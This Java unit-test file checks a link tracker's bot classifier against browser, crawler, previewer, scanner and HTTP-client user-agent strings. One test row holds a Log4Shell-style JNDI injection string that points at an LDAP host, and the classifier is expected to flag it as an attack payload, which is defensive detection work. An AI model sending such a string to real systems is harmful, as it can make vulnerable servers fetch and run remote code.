package dev.tracerlinks.tracker.classification;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tracerlinks.model.Json;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class BotClassifierTest {
    private static final BotClassifier CLASSIFIER = new BotClassifier(UserAgentRules.load(Json.newMapper()));
    /** What a browser's navigation looks like at the edge. */
    private static final Map<String, String> BROWSER_SIGNALS = Map.of("accept-language-present", "true", "secure-context", "true",
            "accept", "text/html,application/xhtml+xml", "sec-fetch-mode", "navigate");

    @ParameterizedTest(name = "[{index}] human: {0}")
    @ValueSource(strings = {
        // Desktop Chrome, Edge, Opera, Brave, Vivaldi
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.86",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Vivaldi/6.5.3206.48",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.4.0.0 Safari/537.36",
        // Desktop Firefox and Safari
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
        // Mobile: iOS Safari, Chrome, Firefox, Edge; Android Chrome, Samsung Internet, Firefox
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/133.0 Mobile/15E148 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 EdgiOS/131.2903.68 Mobile/15E148 Safari/605.1.15",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.104 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
        "Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; 2201117TG) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 EdgA/131.0.0.0",
        // In-app browsers of people who tap a link (a human is behind them)
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.30.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/UQ1A.240205.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/121.0.6167.178 Mobile Safari/537.36 GSA/15.6.30",
    })
    void browsers_are_human(String userAgent) {
        assertThat(CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS)).isEqualTo(new BotClassifier.Verdict(false, null));
    }

    @ParameterizedTest(name = "[{index}] {0} -> {1}")
    @CsvSource(delimiter = '|', value = {
        // Search and SEO crawlers (the crawler-user-agents list)
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)                                | ua:Googlebot@crawler-user-agents",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36 | ua:Googlebot@crawler-user-agents",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)                                  | ua:bingbot@crawler-user-agents",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)                                         | ua:yandex.com/bots@crawler-user-agents",
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)                      | ua:Baiduspider@crawler-user-agents",
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)                                               | ua:DuckDuckBot@crawler-user-agents",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)                                       | ua:AhrefsBot@crawler-user-agents",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)                              | ua:SemrushBot@crawler-user-agents",
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)                                            | ua:MJ12bot@crawler-user-agents",
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)                 | ua:dotbot@crawler-user-agents",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot) | ua:Applebot@crawler-user-agents",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)   | ua:GPTBot@crawler-user-agents",
        "CCBot/2.0 (https://commoncrawl.org/faq/)                                                                 | ua:CCBot@crawler-user-agents",
        "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)                      | ua:PetalBot@crawler-user-agents",
        // Link previewers
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)                                               | ua:Slackbot@crawler-user-agents",
        "Slackbot 1.0 (+https://api.slack.com/robots)                                                             | ua:Slackbot@crawler-user-agents",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)                    | ua:LinkedInBot@crawler-user-agents",
        "WhatsApp/2.23.20.0                                                                                       | ua:WhatsApp@crawler-user-agents",
        "WhatsApp/2.2349.52 i                                                                                     | ua:WhatsApp@crawler-user-agents",
        "TelegramBot (like TwitterBot)                                                                            | ua:TelegramBot@crawler-user-agents",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)                                       | ua:Discordbot@crawler-user-agents",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)                                | ua:facebookexternalhit@crawler-user-agents",
        "facebookexternalhit/1.1 Facebot Twitterbot/1.0                                                           | ua:facebookexternalhit@crawler-user-agents",
        "Twitterbot/1.0                                                                                           | ua:Twitterbot@crawler-user-agents",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com          | ua:SkypeUriPreview@own",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)                               | ua:Microsoft-Office-preview@own",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36 MicrosoftPreview/2.0 +https://aka.ms/MicrosoftPreview | ua:MicrosoftPreview@own",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BingPreview/1.0b      | ua:BingPreview@crawler-user-agents",
        "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)                                         | ua:Embedly@crawler-user-agents",
        "Iframely/1.3.1 (+https://iframely.com/docs/about)                                                        | ua:Iframely@own",
        "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)                                 | ua:redditbot@crawler-user-agents",
        "Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)                           | ua:pinterest.com/bot@crawler-user-agents",
        "Signal-Desktop/7.35.0                                                                                    | ua:Signal@own",
        "TracerLinks-Readiness/1.0                                                                                | ua:TracerLinks-Readiness@own",
        // Email security scanners
        "Mozilla/5.0 (compatible; Barracuda Sentinel (EE))                                                        | ua:Barracuda@own",
        "Mimecast-URL-Protect/1.0                                                                                 | ua:Mimecast@own",
        "Proofpoint URL Defense                                                                                   | ua:Proofpoint@own",
        "Cisco-IronPort-Scanner/1.0                                                                               | ua:Cisco-IronPort@own",
        "Forcepoint-Email-Security/8.5                                                                            | ua:Forcepoint@own",
        // HTTP clients and tools
        "curl/8.5.0                                                                                               | ua:curl@crawler-user-agents",
        "Wget/1.21.4                                                                                              | ua:wget@crawler-user-agents",
        "python-requests/2.32.3                                                                                   | ua:python-requests@crawler-user-agents",
        "python-httpx/0.27.0                                                                                      | ua:httpx@own",
        "Python/3.11 aiohttp/3.9.5                                                                                | ua:aiohttp@own",
        "Python-urllib/3.11                                                                                       | ua:Python-urllib@crawler-user-agents",
        "Go-http-client/1.1                                                                                       | ua:Go-http-client@crawler-user-agents",
        "Go-http-client/2.0                                                                                       | ua:Go-http-client@crawler-user-agents",
        "okhttp/4.12.0                                                                                            | ua:okhttp@crawler-user-agents",
        "Java-http-client/17.0.15                                                                                 | ua:Java-http-client@own",
        "Java/17.0.8                                                                                              | ua:Java@own",
        "Apache-HttpClient/4.5.14 (Java/17.0.8)                                                                   | ua:Apache-HttpClient@crawler-user-agents",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)                                                   | ua:node-fetch@crawler-user-agents",
        "axios/1.7.2                                                                                              | ua:axios@crawler-user-agents",
        "undici                                                                                                   | ua:undici@own",
        "PostmanRuntime/7.42.0                                                                                    | ua:PostmanRuntime@own",
        "libwww-perl/6.72                                                                                         | ua:libwww-perl@crawler-user-agents",
        "Ruby                                                                                                     | ua:Ruby@own",
        "Dart/3.5 (dart:io)                                                                                       | ua:Dart@own",
        "HTTPie/3.2.2                                                                                             | ua:HTTPie@crawler-user-agents",
        // Headless browsers
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36 | ua:renderer@own",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1  | ua:renderer@own",
    })
    void bots_are_flagged_with_the_rule_that_caught_them(String userAgent, String reason) {
        BotClassifier.Verdict verdict = CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS);
        assertThat(verdict.isBot()).as(userAgent).isTrue();
        assertThat(verdict.reason()).isEqualTo(reason);
    }

    @Test
    void every_pattern_of_every_list_is_loaded_except_the_named_exclusions() throws java.io.IOException {
        // A loading bug or a pattern Java cannot compile must not silently drop entries: the count is exact.
        com.fasterxml.jackson.databind.ObjectMapper mapper = Json.newMapper();
        java.util.function.Function<String, com.fasterxml.jackson.databind.JsonNode> list = name -> {
            try (java.io.InputStream in = UserAgentRules.class.getResourceAsStream("/bots/" + name)) {
                return mapper.readTree(in);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        };
        java.util.Set<String> crawlerPatterns = new java.util.HashSet<>();
        list.apply("crawler-user-agents.json").forEach(entry -> crawlerPatterns.add(entry.get("pattern").asText()));
        int excluded = 0;
        for (com.fasterxml.jackson.databind.JsonNode entry : list.apply("crawler-user-agents-excluded.json")) {
            assertThat(crawlerPatterns).as("an exclusion names a pattern of the list").contains(entry.get("pattern").asText());
            excluded++;
        }
        int expected = list.apply("own-user-agents.json").size() + list.apply("human-user-agents.json").size()
                + list.apply("crawler-user-agents.json").size() - excluded + list.apply("isbot-patterns.json").size();
        assertThat(crawlerPatterns).hasSizeGreaterThanOrEqualTo(1_500);
        assertThat(UserAgentRules.load(mapper).size()).isEqualTo(expected);
    }

    @Test
    void head_requests_are_bots() {
        assertThat(CLASSIFIER.classify("HEAD", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
                BROWSER_SIGNALS).reason()).isEqualTo("method:HEAD");
    }

    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @CsvSource(delimiter = '|', value = {
        "sec-purpose | prefetch          | header:sec-purpose=prefetch",
        "sec-purpose | prefetch;prerender | header:sec-purpose=prefetch;prerender",
        "purpose     | prefetch          | header:purpose=prefetch",
        "x-moz       | prefetch          | header:x-moz=prefetch",
    })
    void prefetches_are_bots(String header, String value, String reason) {
        Map<String, String> signals = Map.of("accept-language-present", "true", header, value);
        assertThat(CLASSIFIER.classify("GET", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/131.0.0.0 Safari/537.36", signals).reason()).isEqualTo(reason);
    }

    @Test
    void no_user_agent_is_a_bot_unless_the_visitor_asked_not_to_be_tracked() {
        assertThat(CLASSIFIER.classify("GET", null, Map.of("accept-language-present", "true")).reason()).isEqualTo("empty-ua");
        assertThat(CLASSIFIER.classify("GET", " ", null).reason()).isEqualTo("empty-ua");
        assertThat(CLASSIFIER.classify("GET", null, Map.of("privacy-opt-out", "true")).isBot()).isFalse();
    }

    @Test
    void a_browser_user_agent_without_accept_language_is_a_bot_but_guide_clients_without_signals_are_not_judged_on_it() {
        String chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
        assertThat(CLASSIFIER.classify("GET", chrome, Map.of("accept-language-present", "false")).reason())
                .isEqualTo("header:no-accept-language");
        assertThat(CLASSIFIER.classify(null, chrome, null).isBot()).isFalse();
        assertThat(CLASSIFIER.classify(null, chrome, Map.of()).isBot()).isFalse();
    }

    /**
     * People whose clients look odd, each once flagged as a bot (issue #16): in-app browsers, Electron
     * desktop apps, regional mobile browsers, a phone brand that ends in "bot".
     */
    @ParameterizedTest(name = "[{index}] human: {0}")
    @ValueSource(strings = {
        "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 Instagram 339.0.0.31.108 Android (34/14; 480dpi; 1080x2340; samsung; SM-S918B; dm3q; qcom; en_US; 620663580)",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/471.0.0.35.79;]",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.1.9 Safari/537.36 Sonic Slack_SSB/4.4.2",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.115.0 Chrome/138.0.7204.251 Electron/37.7.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 10; V2027) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.181 Mobile Safari/537.36 Viber/20.3.0.2",
        "Mozilla/5.0 (Linux; U; Android 11; zh-cn; M2012K11AC Build/RKQ1.200826.002) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/87.0.4280.141 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.39.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.30.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 339.0.0.12.105 (iPhone15,2; iOS 17_5; en_US; en; scale=3.00; 1179x2556; 620663580)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/471.0.0.35.79;FBBV/631372938;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/0]",
        "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 Line/14.8.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/zh_CN",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/13.2.0.38 (like Safari/8618.2.12.10.6, panda)",
        "Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/AP2A.240705.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.134 Mobile Safari/537.36 trill_350402 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/trill app_version/35.4.2 ByteLocale/en ByteFullLocale/en Region/US AppId/1180 Spark/1.5.6.1-bugfix AppVersion/35.4.2 BytedanceWebview/d8a21c6",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/1.6.00.4472 Chrome/80.0.3987.165 Electron/8.5.1 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0 Teams/24102.2223.2870.9480/49",
        // Teams in a WebView2 shell: a person clicking in Teams (its link previews announce themselves otherwise).
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36 Teams/1.6.00.4472",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) discord/1.0.9163 Chrome/124.0.6367.243 Electron/30.2.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 10; en-US; RMX1971 Build/QKQ1.190918.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306 Mobile Safari/537.36",
        "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16",
        "Mozilla/5.0 (Linux; arm_64; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.128 YaBrowser/24.4.3.95.00 SA/3 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 12; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.5615.136 Mobile Safari/537.36 Viber/21.0.2.1",
        "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36"
    })
    void people_in_apps_and_browsers_that_look_odd_are_human(String userAgent) {
        assertThat(CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS)).isEqualTo(new BotClassifier.Verdict(false, null));
    }

    /** Bots on no list by name, each once missed (issue #16), caught by the shapes they announce themselves with. */
    @ParameterizedTest(name = "[{index}] {0} -> {1}")
    @CsvSource(delimiter = '|', value = {
        "Mozilla/5.0 (compatible; AcoonBot/4.11.1; +http://www.acoon.de/robot.asp) | ua:AcoonBot@isbot",
        "ApacheBench/2.3 | ua:ApacheBench/2.3@isbot",
        "ELB-HealthChecker/2.0 | ua:ELB-HealthChecker/2.0@isbot",
        "Amazon-Route53-Health-Check-Service (ref 0f1e2d3c-aaaa-bbbb-cccc-1234567890ab; report http://amzn.to/1vsZADi) | ua:http@isbot",
        "agentslug.com - website monitoring tool | ua:agentslug.com@isbot",
        "Akregator/1.2.9; librss/remnants | ua:librss@isbot"
    })
    void bots_no_list_names_are_caught_by_their_shape(String userAgent, String reason) {
        BotClassifier.Verdict verdict = CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS);
        assertThat(verdict.isBot()).isTrue();
        // The reason names the word that matched, then the isbot pattern that found it.
        assertThat(verdict.reason()).startsWith(reason + "/");
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', value = {
        // Link previewers of the apps above stay bots: they fetch on their own, before any person clicks.
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)                                     | ua:Slackbot@crawler-user-agents",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com | ua:SkypeUriPreview@own",
        "WhatsApp/2.23.20.0                                                                              | ua:WhatsApp@crawler-user-agents",
        "TelegramBot (like TwitterBot)                                                                   | ua:TelegramBot@crawler-user-agents",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)           | ua:LinkedInBot@crawler-user-agents",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)                       | ua:facebookexternalhit@crawler-user-agents",
        "Viber                                                                                           | ua:Viber@crawler-user-agents",
        // Office's protocol check: Word and Outlook ask about a link before they hand it to the browser.
        "Microsoft Office Word 2014                                                                      | ua:Microsoft-Office-protocol-check@own",
        "Microsoft Office Existence Discovery                                                            | ua:Microsoft-Office-protocol-check@own",
        "Mozilla/4.0 (compatible; ms-office; MSOffice 16)                                                | ua:Microsoft-Office-preview@own",
        // An app that announces a robot is a robot, whatever app it names.
        "Mozilla/5.0 (Linux; Android 14; Pixel 8; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36 Instagram 339.0.0.31.108 Android examplebot/1.0 | ua:examplebot@robot-words",
        // A crawler in a feature phone's clothes.
        "NokiaN70/. FASTMobileCrawl/6.6 Profile/MIDP-2.0 Configuration/CLDC-1.1                           | ua:FASTMobileCrawl@robot-words",
        "${jndi:ldap://198.51.100.7:1389/a}                                                               | ua:attack-payload@own",
    })
    void machine_fetches_of_peoples_apps_stay_bots(String userAgent, String reason) {
        assertThat(CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS)).isEqualTo(new BotClassifier.Verdict(true, reason));
    }

    @Test
    void without_accept_language_any_user_agent_from_the_edge_is_a_bot() {
        Map<String, String> bare = Map.of("accept", "*/*", "accept-language-present", "false");
        String chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
        for (String userAgent : new String[] {"Akregator/1.2.9; librss/remnants", chrome,
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.30.1"}) {
            assertThat(CLASSIFIER.classify("GET", userAgent, bare).isBot()).as(userAgent).isTrue();
        }
        assertThat(CLASSIFIER.classify("GET", chrome, bare).reason()).isEqualTo("header:no-accept-language");
    }

    @ParameterizedTest(name = "[{index}] {0}: bot={1}")
    @CsvSource(delimiter = '|', value = {
        // Browsers that always send Sec-Fetch-* on a navigation: a claim without them is a bot.
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36           | true  | Chrome/131",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0 | true | Chrome/131",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0                                          | true  | Firefox/133",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15      | true  | Safari/17.6",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.4 Mobile/15E148 Safari/604.1 | true | Safari/16.4",
        // Versions before Fetch Metadata, webviews and in-app browsers promise nothing: they are never judged on it.
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.3 Mobile/15E148 Safari/604.1 | false | ",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.6 Safari/605.1.15      | false | ",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0                                            | false | ",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.130 Safari/537.36         | false | ",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 | false | ",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1 | false | ",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.30.1 | false | ",
    })
    void a_browser_that_promises_fetch_metadata_and_sends_none_is_a_bot(String userAgent, boolean bot, String claim) {
        Map<String, String> noFetchMetadata = Map.of("accept", "text/html,application/xhtml+xml", "accept-language-present", "true",
                "secure-context", "true");
        BotClassifier.Verdict verdict = CLASSIFIER.classify("GET", userAgent, noFetchMetadata);
        assertThat(verdict.isBot()).as(userAgent).isEqualTo(bot);
        if (bot) {
            assertThat(verdict.reason()).isEqualTo("header:no-sec-fetch;claims=" + claim);
        }
        // With them, the same user agent is a person; and guide clients, which send no signals, are never judged on headers.
        assertThat(CLASSIFIER.classify("GET", userAgent, BROWSER_SIGNALS).isBot()).isFalse();
        assertThat(CLASSIFIER.classify("GET", userAgent, null).isBot()).isFalse();
        // Over plain http, browsers send no Fetch Metadata at all: its absence says nothing there.
        Map<String, String> plainHttp = new java.util.HashMap<>(noFetchMetadata);
        plainHttp.put("secure-context", "false");
        assertThat(CLASSIFIER.classify("GET", userAgent, plainHttp).isBot()).isFalse();
    }
}
